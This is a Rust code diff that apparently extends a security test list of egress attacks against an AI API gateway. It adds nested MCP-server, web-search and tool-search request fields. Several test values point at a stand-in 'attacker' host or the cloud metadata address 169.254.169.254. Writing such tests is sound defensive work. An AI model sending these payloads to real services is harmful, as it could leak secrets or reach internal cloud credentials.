@@ -70,6 +70,10 @@ pub(crate) fn egress() -> Vec<Attack> {
         let tool = json!({ "type": kind, "name": "a", "server_label": "a", "server_url": "http://attacker" });
         egress(path, "tools", json!([tool]), may)
     };
+    let group = |tools: Value| json!([{ "type": "namespace", "name": "a", "tools": tools }]);
+    let more = |kind: &str, tools: Value| json!([{ "type": kind, "role": "developer", "tools": tools }]);
+    let mcp = || json!([{ "type": "mcp", "server_label": "a", "server_url": "http://attacker" }]);
+    let search = json!([{ "type": "tool_search", "execution": "server" }]);
     vec![
         image("http://169.254.169.254/latest"),
         image("https://attacker/?q=secret"),
@@ -93,6 +97,12 @@ pub(crate) fn egress() -> Vec<Attack> {
         egress(RESPONSES, "background", json!(true), May::Background),
         egress(MESSAGES, "mcp_servers", json!([{ "type": "url", "url": "http://attacker" }]), May::Mcp),
         egress(MESSAGES, "container", json!("container_1"), May::ServerTools),
+        egress(RESPONSES, "tools", group(mcp()), May::Mcp),
+        egress(RESPONSES, "tools", group(group(json!([{ "type": "web_search" }]))), May::WebSearch),
+        egress(RESPONSES, "tools", search, May::ServerTools),
+        egress(RESPONSES, "input", more("additional_tools", mcp()), May::Mcp),
+        egress(RESPONSES, "input", more("additional_tools", group(mcp())), May::Mcp),
+        egress(RESPONSES, "input", more("tool_search_output", json!([])), May::ServerTools),
     ]
 }
 
